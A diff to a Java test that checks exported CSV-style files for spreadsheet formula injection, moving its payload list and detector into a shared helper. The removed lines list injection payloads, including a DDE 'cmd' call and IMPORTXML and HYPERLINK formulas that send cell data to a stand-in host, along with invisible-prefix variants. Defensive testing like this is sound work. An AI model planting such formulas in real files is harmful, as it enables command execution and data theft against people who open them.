@@ -26,29 +26,13 @@ import org.plainsight.foreignlist.Finding;
 import org.plainsight.foreignlist.FindingsFile;
 import org.plainsight.registry.AddressClaim;
 import org.plainsight.registry.labels.CorrectionRequest;
+import org.plainsight.testing.HostileTexts;
 import org.plainsight.testing.TestClaim;
 
 /** Words of operators and strangers that a spreadsheet would run, through everything of ours that a spreadsheet opens. */
 class SpreadsheetFormulaTest {
 
-    private static final List<String> SIGNS = List.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "'=", "\t=");
-    private static final List<String> BEFORE = List.of("", " ", "\u00a0", "\u200b", "\ufeff");
-    private static final List<String> FORMULAS = List.of(
-            "HYPERLINK(\"https://evil.example\",\"x\")",
-            "cmd|' /C calc'!A0",
-            "IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
-            "1+1\",=2+5");
     private static final FeedHead HEAD = new FeedHead(1, Instant.EPOCH, "ab".repeat(32));
-
-    private static List<String> payloads() {
-        List<String> all = new ArrayList<>();
-        for (String sign : SIGNS) {
-            for (String before : BEFORE) {
-                FORMULAS.forEach(formula -> all.add(before + sign + formula));
-            }
-        }
-        return all;
-    }
 
     private static AddressClaim claim(String words) {
         return new AddressClaim(
@@ -92,17 +76,10 @@ class SpreadsheetFormulaTest {
         return files;
     }
 
-    /** By the first character that shows. */
-    private static boolean runs(String cell) {
-        String shown = cell.replaceFirst("^[\\s\\p{Z}\\p{Cf}]+", "");
-        boolean controlFirst = !cell.isEmpty() && Character.isISOControl(cell.charAt(0));
-        return controlFirst || (!shown.isEmpty() && "=+-@＝＋－＠".indexOf(shown.charAt(0)) >= 0);
-    }
-
     @Test
     void of_two_hundred_formulas_none_is_one_in_any_file_that_a_spreadsheet_opens() throws IOException {
-        assertThat(payloads()).hasSize(200);
-        for (String payload : payloads()) {
+        assertThat(HostileTexts.formulas()).hasSize(200);
+        for (String payload : HostileTexts.formulas()) {
             Map<String, String> files = files(payload);
             assertThat(files).hasSize(7);
             files.forEach((name, text) -> {
@@ -110,7 +87,7 @@ class SpreadsheetFormulaTest {
                 CsvReader.builder().ofCsvRecord(text).stream()
                         .map(CsvRecord::getFields)
                         .forEach(cells::addAll);
-                assertThat(cells).as("%s of %s", name, payload).noneMatch(SpreadsheetFormulaTest::runs);
+                assertThat(cells).as("%s of %s", name, payload).noneMatch(HostileTexts::isFormula);
                 assertThat(cells)
                         .as("%s keeps the words of %s", name, payload)
                         .anyMatch(cell -> cell.contains(payload.strip()) || cell.contains(payload));
